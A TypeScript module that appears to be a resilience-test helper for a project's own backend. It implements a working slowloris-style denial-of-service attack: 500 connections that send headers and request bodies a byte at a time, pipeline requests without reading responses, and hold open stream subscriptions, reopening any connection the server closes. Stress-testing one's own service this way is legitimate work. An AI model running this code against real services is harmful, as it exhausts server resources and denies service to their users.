import { connect, type Socket } from 'node:net'
import { HUB_PATH } from '#contract/realtime/topics.ts'

/** Connections of each kind; five hundred in total. */
const COUNTS = { headers: 150, bodies: 150, readers: 150, streams: 50 }

const EVERY_MS = 500

/** The attacked backend and the credentials used. */
interface Target {
  readonly url: string
  /** Lets bodies and readers of a signed-in customer reach the handlers. */
  readonly authorization: string
  readonly hubToken: string
}

/** A running attack; connections that the backend closes are opened again. */
export interface Attack {
  /** Currently open connections. */
  open(): number
  /** Connections that the backend has closed so far. */
  closed(): number
  end(): void
}

/** Opens five hundred connections that send or read as slowly as possible. */
export function attack(target: Target): Attack {
  const sockets = new Set<Socket>()
  let closed = 0
  let isOver = false

  function openSocket(first: string, rest: string | null, isReading: boolean): void {
    if (isOver) return
    const { hostname, port } = new URL(target.url)
    const socket = connect(Number(port), hostname)
    sockets.add(socket)
    socket.on('connect', () => socket.write(first))
    if (isReading) socket.resume()
    else socket.pause()
    // Sending a byte regularly avoids idle timeouts.
    const timer = rest === null ? null : setInterval(() => socket.write(rest), EVERY_MS)
    socket.on('error', () => socket.destroy())
    socket.on('close', () => {
      if (timer) clearInterval(timer)
      sockets.delete(socket)
      if (isOver) return
      closed += 1
      setTimeout(() => openSocket(first, rest, isReading), EVERY_MS)
    })
  }

  const { host } = new URL(target.url)
  const signedIn = `Host: ${host}\r\nAuthorization: ${target.authorization}\r\n`
  const json = 'Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n'
  for (let n = 0; n < COUNTS.headers; n += 1)
    openSocket(`GET /v2/api/showrooms HTTP/1.1\r\nHost: ${host}\r\n`, 'X-A: b\r\n', true)
  for (let n = 0; n < COUNTS.bodies; n += 1)
    openSocket(`POST /v2/api/customer_projects HTTP/1.1\r\n${signedIn}${json}{`, ' ', true)
  // Requests the longest response without files repeatedly on one connection and reads none of it.
  const pipelined = `GET /v2/api/openapi.json HTTP/1.1\r\n${signedIn}\r\n`
  for (let n = 0; n < COUNTS.readers; n += 1) openSocket(pipelined.repeat(20), null, false)
  const stream = `GET ${HUB_PATH}?topic=* HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${target.hubToken}\r\n\r\n`
  for (let n = 0; n < COUNTS.streams; n += 1) openSocket(stream, null, true)

  return {
    open: () => sockets.size,
    closed: () => closed,
    end() {
      isOver = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
